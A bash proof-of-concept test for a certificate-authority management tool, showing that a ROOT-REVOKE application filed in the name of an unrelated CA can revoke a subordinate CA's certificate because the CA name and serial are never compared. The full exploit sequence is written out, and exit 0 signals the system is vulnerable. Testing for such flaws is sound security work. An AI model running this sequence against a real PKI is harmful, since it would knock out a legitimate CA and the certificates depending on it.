#!/usr/bin/env bash
# ROOT-REVOKE names a CA ("ca_name") and a serial, but the two are never compared: an application in the name of
# "Some Other CA" revokes the national CA's (SUB's) certificate at the root; SUB then certifies nothing.
# Exit 0 = vulnerable.
NAME=root-revoke-other; . "$(dirname "$0")/common.sh"
setup_sub >/dev/null || { echo setup failed; cat $W/err; exit 1; }
as admin ca set --code ROOT cdp_url=http://crl.example.kz/ROOT.crl aia_url=http://ca.example.kz/ROOT.cer || { show $?; exit 1; }
d=$(TZ=Asia/Almaty date +%F)
cat >$W/ra.json <<J
{"country":"KZ","region":"Astana","city":"Astana","org_name":"Some LLP","ca_name":"Attack Sub CA","email":"ca@example.kz",
 "usage":["subordinate_ca"],"validity":"5y","application_date":"$d","head_full_name":"Head Person"}
J
as op application submit --ca ROOT --form ROOT-ISSUE --data $W/ra.json --attachments accreditation_certificate_copy --consent --json || { show $?; exit 1; }
APP=$(jget id); as off2 application approve $APP >/dev/null
as off1 certificate issue --application $APP --csr $W/sub.csr --out $W/sub.pem --ca-passphrase-file $W/ca.pass --json || { show $?; exit 1; }; SUBSER=$(jget serial)
as admin ca import-cert --code SUB --cert $W/sub.pem >/dev/null || { show $?; exit 1; }
say "SUB ('Attack Sub CA') certified by ROOT: $SUBSER"
cat >$W/rr.json <<J
{"full_name":"Mallory Person","birth_date":"1980-01-01","organisation":"Other LLP","address":"Almaty","phone":"+77011234567",
 "reason":"key_compromise","cert_serial":"$SUBSER","country":"KZ","region":"Almaty","city":"Almaty","org_name":"Other LLP",
 "ca_name":"Some Other CA","email":"m@example.kz","application_date":"$d","head_full_name":"Mallory Person"}
J
step "ROOT-REVOKE in the name of 'Some Other CA' naming SUB's serial" as op application submit --ca ROOT --form ROOT-REVOKE --data $W/rr.json --json || exit 1
R=$(jget id)
step "approved" as off2 application approve $R
step "carried out" as off1 certificate revoke --application $R
rc=$?
as aud ca list; echo "   $(grep -i SUB $W/out | tr -s ' ' | cut -c1-200)"
[ $rc -eq 0 ] && exit 0 || exit 1
